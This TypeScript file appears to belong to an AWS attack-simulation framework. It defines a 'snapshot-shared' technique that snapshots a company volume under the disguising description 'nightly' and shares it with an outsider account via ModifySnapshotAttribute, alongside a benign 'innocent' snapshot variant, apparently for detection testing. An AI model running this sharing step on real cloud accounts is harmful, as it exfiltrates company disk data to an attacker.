import type { Technique } from '../technique.ts';

/** A snapshot of a volume of the company, shared with the account of the attacker: he copies the disk at home. */
export const technique: Technique = {
  id: 'snapshot-shared',
  place: 'home',
  makes: ['AWS::EC2::Snapshot'],
  needs: ['ec2:CreateSnapshot', 'ec2:ModifySnapshotAttribute'],
  async before(act) {
    const zone = `${act.region}a`;
    const { VolumeId } = await act.call('ec2', 'CreateVolume', { AvailabilityZone: zone, Size: 8, VolumeType: 'gp3' });
    act.kept.volume = VolumeId;
    act.pass(60);
  },
  async play(act) {
    const { SnapshotId } = await act.call('ec2', 'CreateSnapshot', { VolumeId: act.kept.volume, Description: 'nightly' });
    act.made('AWS::EC2::Snapshot', SnapshotId, act.arn('ec2', `snapshot/${SnapshotId}`));
    act.pass(600);
    const share = { Attribute: 'createVolumePermission', OperationType: 'add', UserIds: [act.company.outsider] };
    await act.call('ec2', 'ModifySnapshotAttribute', { SnapshotId, ...share });
  },
  async innocent(act) {
    const { SnapshotId } = await act.call('ec2', 'CreateSnapshot', { VolumeId: act.kept.volume, Description: 'before the upgrade' });
    act.made('AWS::EC2::Snapshot', SnapshotId, act.arn('ec2', `snapshot/${SnapshotId}`));
  },
};
